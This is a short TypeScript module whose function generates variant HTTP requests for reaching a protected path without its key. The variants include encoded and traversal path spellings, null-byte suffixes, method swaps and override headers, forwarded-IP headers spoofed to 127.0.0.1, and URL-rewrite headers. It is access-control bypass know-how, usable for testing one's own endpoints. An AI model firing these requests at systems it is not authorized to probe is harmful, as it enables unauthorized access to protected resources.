/** A way of asking for something without its key. */
export interface Detour {
  readonly method: string;
  readonly path: string;
  readonly headers?: Record<string, string>;
}

const METHODS = ['GET', 'HEAD', 'OPTIONS', 'POST', 'PUT', 'PATCH', 'DELETE', 'TRACE'];

/** Other spellings, other methods, and headers that proxies set: what has opened doors elsewhere. */
export function detoursTo(method: string, path: string, host: string): Detour[] {
  const code = path.charCodeAt(1).toString(16);
  const spellings = [
    `${path}/`,
    path.toUpperCase(),
    `/%${code}${path.slice(2)}`,
    `/%25${code}${path.slice(2)}`,
    `/${path}`,
    `/.${path}`,
    `/health/..${path}`,
    `/health/..%2f${path.slice(1)}`,
    `/docs/..${path}`,
    `/docs/%2e%2e${path}`,
    `${path};/health`,
    `${path}?access=public`,
    `${path}%00`,
    `${path}%20`,
    `http://${host}${path}`,
  ];
  return [
    ...spellings.map((spelling) => ({ method, path: spelling })),
    ...METHODS.flatMap((other) => [
      { method: other, path },
      { method: 'POST', path, headers: { 'x-http-method-override': other } },
      { method: 'GET', path: `${path}?_method=${other}` },
    ]),
    ...['x-forwarded-for', 'x-real-ip', 'x-forwarded-host', 'forwarded'].flatMap((name) => [
      { method, path, headers: { [name]: '127.0.0.1' } },
      { method, path, headers: { [name]: 'for=127.0.0.1;host=localhost;proto=https' } },
    ]),
    ...['x-original-url', 'x-rewrite-url', 'x-forwarded-uri', 'x-forwarded-prefix'].flatMap((name) => [
      { method, path, headers: { [name]: '/health' } },
      { method, path: '/nothing', headers: { [name]: path } },
    ]),
  ];
}
